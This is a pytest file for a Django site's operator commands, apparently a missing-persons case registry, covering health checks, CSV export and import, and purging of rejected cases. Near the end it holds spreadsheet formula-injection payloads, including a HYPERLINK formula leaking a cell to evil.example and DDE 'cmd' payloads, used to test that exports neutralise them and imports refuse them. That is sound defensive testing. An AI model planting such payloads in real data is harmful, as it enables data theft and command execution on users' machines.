"""Operator commands: healthcheck, export_cases / import_cases, purge_rejected."""

import csv
import datetime
import io
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.files.storage import FileSystemStorage
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from accounts.tests.factories import StaffFactory, UserFactory
from listings import moderation
from listings.case_csv import COLUMNS
from listings.models import REQUIRED_FIELDS, AuditAction, AuditEntry, Case, CaseStatus, Photo, ReviewState
from listings.tests.factories import CaseFactory, PhotoFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]


def run(*args):
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


@pytest.mark.parametrize("command", ["healthcheck", "export_cases", "import_cases", "purge_rejected", "encrypt_secret"])
def test_every_operator_command_has_help(command):
    result = subprocess.run(  # noqa: S603 - fixed arguments
        [sys.executable, "manage.py", command, "--help"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={"SECRET_KEY": "x", "PATH": "/usr/bin:/bin"},
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "usage: manage.py " + command in result.stdout


# healthcheck


def test_healthcheck_passes_on_the_local_storage(settings):
    out, _ = run("healthcheck")

    lines = out.splitlines()
    assert lines[0].startswith("database: ok")
    assert lines[1].startswith("media storage: ok")
    assert lines[2] == "task queue: ok (no broker configured: tasks run in the web process)"
    assert not list(Path(settings.STORAGES["default"]["OPTIONS"]["location"]).rglob("*.txt"))


def test_healthcheck_passes_on_s3_and_leaves_no_probe(s3_storage):
    out, _ = run("healthcheck")

    assert f"media storage: ok (S3 bucket {s3_storage.name}: write, read and delete)" in out
    assert s3_storage.keys() == []


def test_healthcheck_fails_with_exit_1_when_storage_is_unreachable(s3_storage, settings):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            **settings.STORAGES["default"],
            "OPTIONS": {**settings.STORAGES["default"]["OPTIONS"], "bucket_name": "missing-bucket"},
        },
    }
    out = io.StringIO()
    with pytest.raises(CommandError, match="unhealthy: media storage") as failure:
        call_command("healthcheck", stdout=out)

    assert failure.value.returncode == 1
    assert "database: ok" in out.getvalue()
    assert "media storage: FAILED (S3 bucket missing-bucket: " in out.getvalue()


def test_healthcheck_fails_when_the_database_is_unreachable(monkeypatch):
    from project import health

    def broken(*args, **kwargs):
        raise OSError("connection refused")

    monkeypatch.setattr(health.connections["default"], "cursor", broken)
    out = io.StringIO()
    with pytest.raises(CommandError) as failure:
        call_command("healthcheck", stdout=out)

    assert failure.value.returncode == 1
    assert "database: FAILED (connection refused)" in out.getvalue()


# export_cases / import_cases


def exported(**options):
    out, err = run("export_cases", *[f"--{k.replace('_', '-')}={v}" for k, v in options.items()])
    return out


def write_csv(tmp_path, rows, columns=COLUMNS):
    path = tmp_path / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=columns)
        writer.writeheader()
        for row in rows:
            writer.writerow(row)
    return path


def valid_row(**overrides):
    row = dict.fromkeys(COLUMNS, "")
    row |= {
        "first_name": "Émilie",
        "last_name": "Saint-Pierre 🌊",
        "age_at_disappearance": "19",
        "sex": "female",
        "last_seen_date": "2024-06-01",
        "last_seen_place": "Corner Brook",
        "region": "western",
        "circumstances": "Left a friend's house at night.",
    }
    return row | overrides


def test_export_then_import_round_trips_cases_with_their_states(tmp_path):
    moderator = StaffFactory()
    published = CaseFactory(published=True, first_name="Zoë", nickname="Zo 💫")
    moderation.mark_found(published, by=moderator)
    rejected = CaseFactory(rejected=True, submitted_by=UserFactory(username="family1"))
    pending = CaseFactory(height_cm=None)
    path = tmp_path / "cases.csv"
    run("export_cases", "--output", str(path))
    originals = {case.slug: case for case in Case.objects.all()}
    Case.objects.all().delete()

    out, _ = run("import_cases", str(path), "--by", moderator.username)

    assert "Imported 3 case(s)." in out
    assert set(Case.objects.values_list("slug", flat=True)) == {published.slug, rejected.slug, pending.slug}
    for slug, original in originals.items():
        copy = Case.objects.get(slug=slug)
        for field in ["first_name", "nickname", "height_cm", "last_seen_date", "case_status", "review_state"]:
            assert getattr(copy, field) == getattr(original, field), field
    again = Case.objects.get(slug=published.slug)
    assert (again.case_status, again.published_at) == (CaseStatus.FOUND, published.published_at)
    assert Case.objects.get(slug=rejected.slug).submitted_by.username == "family1"
    entries = AuditEntry.objects.filter(action=AuditAction.IMPORTED)
    assert entries.count() == 3
    assert {entry.actor for entry in entries} == {moderator}
    assert all("cases.csv, line " in entry.note for entry in entries)
    reviews = AuditEntry.objects.filter(action__in=[AuditAction.PUBLISHED, AuditAction.REJECTED], actor=moderator)
    assert sorted(reviews.values_list("case__slug", "to_value")) == sorted(
        [(published.slug, ReviewState.PUBLISHED), (rejected.slug, ReviewState.REJECTED)]
    )


def test_export_filters_by_review_state():
    CaseFactory(published=True, last_name="Shown")
    CaseFactory(last_name="Hidden")

    rows = list(csv.DictReader(io.StringIO(exported(review_state="published"))))

    assert [row["last_name"] for row in rows] == ["Shown"]
    assert rows[0]["review_state"] == "published"


def test_import_reports_every_error_by_line_and_imports_nothing(tmp_path):
    path = write_csv(
        tmp_path,
        [
            valid_row(),
            valid_row(age_at_disappearance="300", region="mars"),
            valid_row(last_seen_date="2999-01-01"),
            valid_row(review_state="maybe", first_name=""),
        ],
    )
    err = io.StringIO()

    with pytest.raises(CommandError, match="5 error\\(s\\) in .*cases.csv; nothing was imported") as failure:
        call_command("import_cases", str(path), stdout=io.StringIO(), stderr=err)

    assert failure.value.returncode == 1
    lines = err.getvalue().splitlines()
    assert any(line.startswith("line 3: age_at_disappearance: ") for line in lines)
    assert any(line.startswith("line 3: region: Select a valid choice") for line in lines)
    assert "line 4: last_seen_date: The date last seen cannot be in the future." in lines
    assert any(line.startswith("line 5: review_state: ") for line in lines)
    assert "line 5: first_name: This field is required." in lines
    assert not Case.objects.exists()
    assert not AuditEntry.objects.exists()


def test_import_line_numbers_count_multiline_cells(tmp_path):
    path = write_csv(tmp_path, [valid_row(circumstances="First line.\nSecond line."), valid_row(region="")])
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_cases", str(path), stdout=io.StringIO(), stderr=err)

    assert err.getvalue().splitlines() == ["line 4: region: This field is required."]


def test_import_rejects_duplicate_and_existing_slugs(tmp_path):
    existing = CaseFactory()
    path = write_csv(tmp_path, [valid_row(slug="emilie-1"), valid_row(slug="emilie-1"), valid_row(slug=existing.slug)])
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_cases", str(path), stdout=io.StringIO(), stderr=err)

    assert err.getvalue().splitlines() == [
        "line 3: slug: “emilie-1” is also on line 2.",
        f"line 4: slug: A case with the slug “{existing.slug}” already exists.",
    ]
    assert Case.objects.count() == 1


def test_import_dry_run_validates_and_writes_nothing(tmp_path):
    path = write_csv(tmp_path, [valid_row(), valid_row(review_state="published")])

    out, _ = run("import_cases", str(path), "--dry-run")

    assert "Dry run: 2 case(s) are valid and would be imported." in out
    assert not Case.objects.exists()


def test_import_of_minimal_columns_uses_defaults_and_keeps_unicode(tmp_path):
    columns = REQUIRED_FIELDS
    row = {name: valid_row()[name] for name in columns}
    path = write_csv(tmp_path, [row], columns=columns)

    run("import_cases", str(path))

    case = Case.objects.get()
    assert (case.first_name, case.last_name) == ("Émilie", "Saint-Pierre 🌊")
    assert (case.review_state, case.case_status, case.sex) == (
        ReviewState.PENDING,
        CaseStatus.MISSING,
        "unknown",
    )
    assert not Case.objects.published().exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "the file is empty"),
        ("name,age\nA,1\n", "missing column(s): age_at_disappearance"),
        (",".join(name for name in COLUMNS if name != "circumstances") + "\n", "missing column(s): circumstances"),
        (",".join(COLUMNS) + ",favourite_colour\n", "unknown column(s): favourite_colour"),
    ],
)
def test_import_rejects_a_file_that_is_not_a_cases_csv(tmp_path, content, message):
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")

    with pytest.raises(CommandError, match=message.replace("(", r"\(").replace(")", r"\)")):
        call_command("import_cases", str(path), stdout=io.StringIO())


def test_import_of_a_missing_file_fails_clearly(tmp_path):
    with pytest.raises(CommandError, match="cannot read .*nope.csv: No such file or directory"):
        call_command("import_cases", str(tmp_path / "nope.csv"))


def test_import_with_unknown_importer_fails_clearly(tmp_path):
    path = write_csv(tmp_path, [valid_row()])
    with pytest.raises(CommandError, match="--by: no user is named 'ghost'"):
        call_command("import_cases", str(path), "--by", "ghost")


# purge_rejected


def rejected_case(days_ago, **kwargs):
    case = CaseFactory(rejected=True, **kwargs)
    Case.objects.filter(pk=case.pk).update(reviewed_at=timezone.now() - datetime.timedelta(days=days_ago))
    return case


def test_purge_deletes_old_rejected_cases_and_their_files(settings, django_capture_on_commit_callbacks):
    old = rejected_case(100)
    photo = PhotoFactory(case=old)
    recent = rejected_case(10)
    published = CaseFactory(published=True)
    media = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    assert all((media / name).exists() for name in photo.stored_names())

    out, _ = run("purge_rejected", "--older-than", "90")

    assert f"removing case {old.slug} “{old}” (rejected " in out
    assert "1 photo(s), 2 stored file(s)" in out
    assert set(Case.objects.all()) == {recent, published}
    assert not any((media / name).exists() for name in photo.stored_names())
    assert AuditEntry.objects.get(action=AuditAction.DELETED).case_label == str(old)


def test_purge_uses_updated_at_when_a_case_has_no_review_time():
    case = CaseFactory(rejected=True)
    Case.objects.filter(pk=case.pk).update(updated_at=timezone.now() - datetime.timedelta(days=40))

    run("purge_rejected", "--older-than", "30")

    assert not Case.objects.exists()


def test_purge_removes_old_rejected_photos_of_published_cases():
    moderator = StaffFactory()
    case = CaseFactory(published=True)
    kept = PhotoFactory(case=case)
    rejected = PhotoFactory(case=case)
    moderation.reject_photo(rejected, by=moderator)
    Photo.objects.filter(pk=rejected.pk).update(created_at=timezone.now() - datetime.timedelta(days=60))

    out, _ = run("purge_rejected", "--older-than", "30")
    assert "Nothing rejected" in out  # rejected today (the audit trail says when), however old the photo

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(timezone, "now", lambda: datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=31))
        out, _ = run("purge_rejected", "--older-than", "30")

    assert f"removing photo {rejected.key} of case {case.slug}" in out
    assert list(Photo.objects.all()) == [kept]
    assert Case.objects.get() == case


def test_purge_dry_run_lists_and_deletes_nothing():
    old = rejected_case(100)

    out, _ = run("purge_rejected", "--older-than", "90", "--dry-run")

    assert f"would remove case {old.slug}" in out
    assert Case.objects.filter(pk=old.pk).exists()


def test_purge_default_period_comes_from_settings(settings):
    rejected_case(settings.REJECTED_RETENTION_DAYS + 1)

    run("purge_rejected")

    assert not Case.objects.exists()


@pytest.mark.parametrize("days", ["0", "-3", "soon"])
def test_purge_rejects_a_bad_period(days):
    with pytest.raises(CommandError, match="--older-than"):
        call_command("purge_rejected", "--older-than", days)


def test_purge_exits_1_when_media_is_left_behind(monkeypatch):
    rejected_case(100)
    PhotoFactory(case=Case.objects.get())
    monkeypatch.setattr(FileSystemStorage, "delete", lambda storage, name: None)

    with pytest.raises(CommandError, match="2 stored file\\(s\\) could not be deleted") as failure:
        call_command("purge_rejected", "--older-than", "90", stdout=io.StringIO(), stderr=io.StringIO())

    assert failure.value.returncode == 1


FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "last_name": "+cmd|' /C calc'!A0",
    "nickname": "@SUM(1+1)*cmd|' /C calc'!A0",
    "distinguishing_features": "-2+3+cmd|' /C calc'!A0",
    "last_seen_place": "\t=1+1",
    "circumstances": "\r=1+1",
    "agency_phone": "+1 709 555 0100",
}


def test_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula():
    """A pending, unreviewed submission plants formulas: the export keeps them as text (a leading apostrophe)."""
    CaseFactory(**FORMULAS)

    (row,) = csv.DictReader(io.StringIO(exported(), newline=""))

    for field, planted in FORMULAS.items():
        assert row[field] == "'" + planted, field
    for value in row.values():
        assert not value.lstrip().startswith(("=", "+", "-", "@")), value


def test_formulas_kept_as_text_round_trip_through_export_and_import(tmp_path):
    moderator = StaffFactory()
    case = CaseFactory(**FORMULAS)
    path = tmp_path / "cases.csv"
    run("export_cases", "--output", str(path))
    Case.objects.all().delete()

    run("import_cases", str(path), "--by", moderator.username)

    copy = Case.objects.get(slug=case.slug)
    for field, planted in FORMULAS.items():
        assert getattr(copy, field) == planted.strip(), field


@pytest.mark.parametrize("formula", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1"])
def test_import_refuses_a_cell_a_spreadsheet_would_run_as_a_formula(tmp_path, formula):
    path = write_csv(tmp_path, [valid_row(), valid_row(last_seen_place=formula)])
    err = io.StringIO()

    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_cases", str(path), stdout=io.StringIO(), stderr=err)

    assert err.getvalue().startswith("line 3: last_seen_place: begins with “")
    assert "spreadsheet runs as a formula" in err.getvalue()
    assert not Case.objects.exists()
